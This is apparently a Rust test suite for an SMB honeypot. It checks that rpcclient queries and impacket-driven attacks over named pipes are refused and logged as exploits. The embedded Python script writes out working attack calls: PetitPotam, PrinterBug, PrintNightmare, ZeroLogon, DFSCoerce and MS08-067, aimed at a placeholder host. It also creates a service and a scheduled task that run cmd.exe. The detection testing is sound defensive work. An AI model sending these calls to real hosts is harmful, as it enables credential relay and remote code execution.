//! Clients of the named pipes of SMB, and attacks over them.

use serde_json::Value;

use crate::fixture::{Canary, client, free_port, installed, python};

fn canary() -> (Canary, u16) {
    let port = free_port();
    (Canary::start(&format!("[host]\nname = \"files01\"\n[service.smb]\nport = {port}\n")), port)
}

fn rpcclient(port: u16, command: &str) -> String {
    let port = port.to_string();
    client("rpcclient", &["-s", "/dev/null", "-p", &port, "-U", "%", "127.0.0.1", "-c", command])
}

/// Calls and what was asked, in the order that they came.
fn calls(canary: &Canary) -> Vec<(String, String)> {
    let events = canary.so_far(|event| event["kind"] == "smb.rpc" || event["kind"] == "smb.exploit");
    let field = |event: &Value, name: &str| event["fields"][name].as_str().unwrap_or_default().to_owned();
    events.iter().map(|event| (field(event, "call"), field(event, "arguments"))).collect()
}

fn ended(canary: &Canary, times: usize) {
    canary.events(times, "ends", |event| event["kind"] == "connection.closed");
}

#[test]
fn rpcclient_is_told_names_and_shares_and_refused_the_rest() {
    if !installed("rpcclient") {
        return;
    }
    let (canary, port) = canary();
    let asked: &[(&str, &[&str])] = &[
        ("srvinfo", &["FILES01", "os version      :\t10.0", "server type     :\t0x9003"]),
        ("netshareenumall 1", &["netname: Documents", "netname: IPC$", "remark:\tRemote IPC"]),
        ("netshareenumall 502", &["WERR_ACCESS_DENIED"]),
        // Those that outlast a restart are the administrators' to know.
        ("netshareenum 1", &["WERR_ACCESS_DENIED"]),
        ("netsharegetinfo Documents 1", &["netname: Documents"]),
        ("netsharedel Documents", &["WERR_ACCESS_DENIED"]),
        ("netsessenum", &["WERR_ACCESS_DENIED"]),
        ("wkssvc_getjoininformation", &["WORKGROUP (2)"]),
        ("lsaquery", &["Domain Name: WORKGROUP", "Domain Sid: (NULL SID)"]),
        ("lookupnames administrator", &["NT_STATUS_ACCESS_DENIED"]),
        ("dsroledominfo", &["Machine Role = [2]"]),
        ("enumdomains", &["name:[FILES01]", "name:[Builtin]"]),
        ("querydispinfo", &["NT_STATUS_ACCESS_DENIED"]),
        ("getdompwinfo", &["min_password_length: 0", "DOMAIN_PASSWORD_COMPLEX"]),
        ("enumdrivers 1", &["Microsoft enhanced Point and Print compatibility driver"]),
        ("winreg_enumkey HKLM", &["WERR_ACCESS_DENIED"]),
    ];
    for (command, parts) in asked {
        let said = rpcclient(port, command);
        for part in *parts {
            assert!(said.contains(part), "{command}: {part}: {said}");
        }
    }
    ended(&canary, asked.len());
    let calls = calls(&canary);
    let has = |call: &str, arguments: &str| calls.contains(&(call.to_owned(), arguments.to_owned()));
    assert!(has("srvsvc NetrShareEnum", "127.0.0.1"), "{calls:?}");
    assert!(has("srvsvc NetrShareDel", "127.0.0.1, Documents"), "{calls:?}");
    assert!(has("lsarpc LsarLookupNames", "administrator"), "{calls:?}");
    assert!(has("samr SamrQueryDisplayInformation", ""), "{calls:?}");
    assert!(!calls.iter().any(|(call, _)| call.contains("Close")), "{calls:?}");
}

/// One call each, by its name on the command line; the answer is printed as the client understands it.
const IMPACKET: &str = r"
import sys
from impacket.smbconnection import SMBConnection
from impacket.dcerpc.v5 import transport, srvs, wkst, scmr, rrp, rprn, nrpc, tsch, even, samr, lsat, lsad
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.dtypes import WSTR, ULONG, NULL, MAXIMUM_ALLOWED
from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY, RPC_C_AUTHN_WINNT
from impacket.uuid import uuidtup_to_bin
host, port = '127.0.0.1', int(sys.argv[1])

def pipe(name, uuid, sealed=False):
    smb = SMBConnection(host, host, sess_port=port)
    smb.login('', '')
    line = transport.SMBTransport(host, port, '\\' + name, smb_connection=smb)
    dce = line.get_dce_rpc()
    if sealed:
        dce.set_credentials('eve', 'Winter2024', 'CORP')
        dce.set_auth_type(RPC_C_AUTHN_WINNT)
        dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    dce.connect()
    dce.bind(uuid if isinstance(uuid, bytes) else uuidtup_to_bin((uuid, '1.0')))
    return dce

def made(number, fields, **values):
    answer = type('CallResponse', (NDRCALL,), {'structure': (('ErrorCode', ULONG),)})
    kind = type('Call', (NDRCALL,), {'opnum': number, 'structure': fields, '__module__': __name__})
    globals()['Call'], globals()['CallResponse'] = kind, answer
    call = kind()
    for name, value in values.items(): call[name] = value
    return call

THERE = '\\\\192.0.2.66\\test\x00'
EFS = 'c681d488-d850-11d0-8c52-00c04fd90f7e'
def efs(sealed):
    call = made(0, (('FileName', WSTR), ('Flags', ULONG)), FileName=THERE, Flags=0)
    return pipe('lsarpc', EFS, sealed).request(call)

def printer():
    dce = pipe('spoolss', rprn.MSRPC_UUID_RPRN)
    call = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
    call['hPrinter'] = rprn.hRpcOpenPrinter(dce, '\\\\files01\x00')['pHandle']
    call['fdwFlags'], call['pszLocalMachine'], call['pOptions'] = 0x100, '\\\\192.0.2.66\x00', NULL
    return dce.request(call)

def driver():
    dce = pipe('spoolss', rprn.MSRPC_UUID_RPRN)
    found = b''.join(rprn.hRpcEnumPrinterDrivers(dce, pName=NULL, pEnvironment='Windows x64\x00', Level=2)['pDrivers'])
    assert 'FileRepository' in found.decode('utf-16-le')
    box = rprn.DRIVER_CONTAINER()
    box['Level'] = 2; box['DriverInfo']['tag'] = 2
    info = box['DriverInfo']['Level2']
    info['cVersion'], info['pName'], info['pEnvironment'] = 3, '1234\x00', 'Windows x64\x00'
    info['pDriverPath'], info['pDataFile'], info['pConfigFile'] = 'C:\\u.dll\x00', THERE, 'C:\\k.dll\x00'
    return rprn.hRpcAddPrinterDriverEx(dce, pName=NULL, pDriverContainer=box, dwFileCopyFlags=0x8014)

def users():
    dce = pipe('samr', samr.MSRPC_UUID_SAMR)
    server = samr.hSamrConnect(dce)['ServerHandle']
    name = samr.hSamrEnumerateDomainsInSamServer(dce, server)['Buffer']['Buffer'][0]['Name']
    sid = samr.hSamrLookupDomainInSamServer(dce, server, name)['DomainId']
    domain = samr.hSamrOpenDomain(dce, server, domainId=sid)['DomainHandle']
    return samr.hSamrEnumerateUsersInDomain(dce, domain)

def sids():
    dce = pipe('lsarpc', lsat.MSRPC_UUID_LSAT)
    policy = lsad.hLsarOpenPolicy2(dce, MAXIMUM_ALLOWED)['PolicyHandle']
    answer = lsad.hLsarQueryInformationPolicy2(dce, policy, lsad.POLICY_INFORMATION_CLASS.PolicyAccountDomainInformation)
    sid = answer['PolicyInformation']['PolicyAccountDomainInfo']['DomainSid'].formatCanonical()
    print('sid', sid[:9])
    return lsat.hLsarLookupSids(dce, policy, [sid + '-500'])

def shares(level):
    found = srvs.hNetrShareEnum(pipe('srvsvc', srvs.MSRPC_UUID_SRVS), level)['InfoStruct']['ShareInfo']
    return [share['shi%d_netname' % level][:-1] for share in found['Level%d' % level]['Buffer']]

def opened():
    smb = SMBConnection(host, host, sess_port=port)
    smb.login('', '')
    tree = smb.connectTree('IPC$')
    return smb, tree, smb.openFile(tree, '\\srvsvc')

def garbage():
    smb, tree, file = opened()
    smb.writeFile(tree, file, b'GET / HTTP/1.1\r\n\r\n')
    return smb.readFile(tree, file)

def peeked():
    smb, tree, file = opened()
    peek = lambda: smb.getSMBServer().ioctl(tree, file, 0x11400c, 1, b'', 1024)[4:8].hex()
    first = peek()
    smb.writeFile(tree, file, bytes.fromhex('05000b03100000004800000001000000b810b810000000000100000000000100c84f324b7016d30112785a47bf6ee18803000000045d888aeb1cc9119fe808002b10486002000000'))
    second = peek()
    smb.readFile(tree, file, 0, 1024, singleCall=True)
    return [first, second, peek()]

CALLS = {
    'garbage': garbage,
    'peeked': peeked,
    'efs': lambda: efs(False),
    'sealed': lambda: efs(True),
    'printer': printer,
    'driver': driver,
    'zero': lambda: nrpc.hNetrServerReqChallenge(pipe('netlogon', nrpc.MSRPC_UUID_NRPC), '\\\\DC01\x00', 'DC01\x00', b'\0' * 8),
    'dfs': lambda: pipe('netdfs', uuidtup_to_bin(('4fc742e0-4a10-11cf-8273-00aa004ae673', '3.0'))).request(
        made(13, (('ServerName', WSTR), ('RootShare', WSTR), ('ApiFlags', ULONG)), ServerName='192.0.2.66\x00', RootShare='test\x00', ApiFlags=1)),
    'shadow': lambda: pipe('FssagentRpc', 'a8e0653c-2744-4389-a61d-7373df8b2292').request(made(9, (('ShareName', WSTR),), ShareName=THERE)),
    'event': lambda: even.hElfrOpenBELW(pipe('eventlog', even.MSRPC_UUID_EVEN), '\\??\\UNC\\192.0.2.66\\share\\log'),
    'path': lambda: srvs.hNetprPathCanonicalize(pipe('srvsvc', srvs.MSRPC_UUID_SRVS), '\\a\\..\\..\\b\x00', 'x\x00', 200, 1),
    'service': lambda: scmr.hROpenSCManagerW(pipe('svcctl', scmr.MSRPC_UUID_SCMR)),
    'create': lambda: scmr.hRCreateServiceW(pipe('svcctl', scmr.MSRPC_UUID_SCMR), b'\1' * 20, 'evil\x00', 'evil\x00', lpBinaryPathName='cmd.exe /c whoami\x00'),
    'task': lambda: tsch.hSchRpcRegisterTask(pipe('atsvc', tsch.MSRPC_UUID_TSCHS), '\\evil', '<Command>cmd.exe</Command>', tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE),
    'registry': lambda: rrp.hOpenLocalMachine(pipe('winreg', rrp.MSRPC_UUID_RRP)),
    'users': users,
    'sids': sids,
    'shares': lambda: [shares(level) for level in (0, 1, 501)],
    'unknown': lambda: pipe('srvsvc', '00000000-1111-2222-3333-444444444444'),
    'bound': lambda: pipe('srvsvc', srvs.MSRPC_UUID_SRVS).disconnect(),
}
try: print('done', CALLS[sys.argv[2]]())
except Exception as error: print(type(error).__name__, error)
";

/// What one of impacket's calls comes to: what the client was told, and the last event of it. `None` if there is no
/// impacket.
fn impacket(name: &str) -> Option<(String, Value, Canary)> {
    let (canary, port) = canary();
    let said = python(IMPACKET, &[&port.to_string(), name])?;
    ended(&canary, 1);
    let events = canary.so_far(|event| event["kind"] == "smb.rpc" || event["kind"] == "smb.exploit");
    let last = events.last().unwrap_or_else(|| panic!("{name}: no event: {said}")).clone();
    Some((said, last, canary))
}

#[test]
fn attacks_over_pipes_are_known_by_name_and_come_to_nothing() {
    let attacks = [
        ("efs", "PetitPotam", "efsrpc EfsRpcOpenFileRaw", "\\\\192.0.2.66\\test", "access_denied"),
        (
            "printer",
            "PrinterBug",
            "spoolss RpcRemoteFindFirstPrinterChangeNotificationEx",
            "\\\\192.0.2.66",
            "0x6ba",
        ),
        (
            "driver",
            "PrintNightmare",
            "spoolss RpcAddPrinterDriverEx",
            "\\\\192.0.2.66\\test",
            "access_denied",
        ),
        ("zero", "ZeroLogon", "netlogon NetrServerReqChallenge", "\\\\DC01, DC01", "0xc0000022"),
        ("dfs", "DFSCoerce", "netdfs NetrDfsRemoveStdRoot", "192.0.2.66, test", "access_denied"),
        ("shadow", "ShadowCoerce", "fssagent IsPathShadowCopied", "\\\\192.0.2.66\\test", "access_denied"),
        (
            "event",
            "CheeseOunce",
            "eventlog ElfrOpenBELW",
            "\\??\\UNC\\192.0.2.66\\share\\log",
            "access_denied",
        ),
        ("path", "MS08-067", "srvsvc NetprPathCanonicalize", "\\a\\..\\..\\b", "0x7b"),
    ];
    for (name, exploit, call, arguments, told) in attacks {
        let Some((said, event, _canary)) = impacket(name) else { return };
        assert!(said.contains(told), "{name}: {said}");
        assert_eq!(
            (&event["kind"], &event["severity"]),
            (&"smb.exploit".into(), &"high".into()),
            "{name}: {event}"
        );
        assert_eq!((&event["fields"]["exploit"], &event["fields"]["call"]), (&exploit.into(), &call.into()));
        assert!(event["fields"]["arguments"].as_str().unwrap().contains(arguments), "{event}");
    }
}

#[test]
fn an_encrypted_attack_is_known_by_its_number_and_leaves_a_login_that_can_be_cracked() {
    let Some((said, event, canary)) = impacket("sealed") else { return };
    assert!(said.contains("access_denied"), "{said}");
    assert_eq!(
        (&event["fields"]["exploit"], &event["fields"]["pipe"]),
        (&"PetitPotam".into(), &"lsarpc".into())
    );
    let logins = canary.so_far(|event| event["kind"] == "smb.login" && event["fields"]["pipe"] == "lsarpc");
    assert_eq!(logins.len(), 1, "{logins:#?}");
    let credential = &logins[0]["credential"];
    assert_eq!((&credential["username"], &credential["domain"]), (&"eve".into(), &"CORP".into()));
    assert!(credential["response"]["crackable"].as_str().unwrap().starts_with("eve::CORP:"), "{credential}");
}

#[test]
fn what_administrators_do_over_pipes_is_recorded_and_refused() {
    let calls = [
        ("service", "svcctl ROpenSCManagerW", "ServicesActive", "access_denied"),
        ("create", "svcctl RCreateServiceW", "evil, cmd.exe /c whoami", "context_mismatch"),
        ("task", "schedule SchRpcRegisterTask", "\\evil, <Command>cmd.exe</Command>", "access_denied"),
        ("registry", "winreg OpenLocalMachine", "", "access_denied"),
        ("users", "samr SamrEnumerateUsersInDomain", "", "0xc0000022"),
        ("sids", "lsarpc LsarLookupSids", "", "0xc0000022"),
        ("shares", "srvsvc NetrShareEnum", "", "['ADMIN$', 'C$', 'Documents', 'IPC$'], ['ADMIN$'"),
        ("unknown", "bind", "00000000-1111-2222-3333-444444444444 1.0", "abstract_syntax_not_supported"),
        ("bound", "bind", "srvsvc", "done"),
        ("peeked", "bind", "srvsvc", "done ['00000000', '44000000', '00000000']"),
        ("garbage", "broken", "another version of DCE/RPC", "PIPE_DISCONNECTED"),
    ];
    for (name, call, arguments, told) in calls {
        let Some((said, event, _canary)) = impacket(name) else { return };
        assert!(said.contains(told), "{name}: {said}");
        assert_eq!((&event["kind"], &event["fields"]["call"]), (&"smb.rpc".into(), &call.into()), "{name}");
        let recorded = event["fields"]["arguments"].as_str().unwrap_or_default();
        assert!(recorded.contains(arguments), "{name}: {event}");
        if name == "sids" {
            assert!(said.contains("sid S-1-5-21-"), "{said}");
        }
    }
}
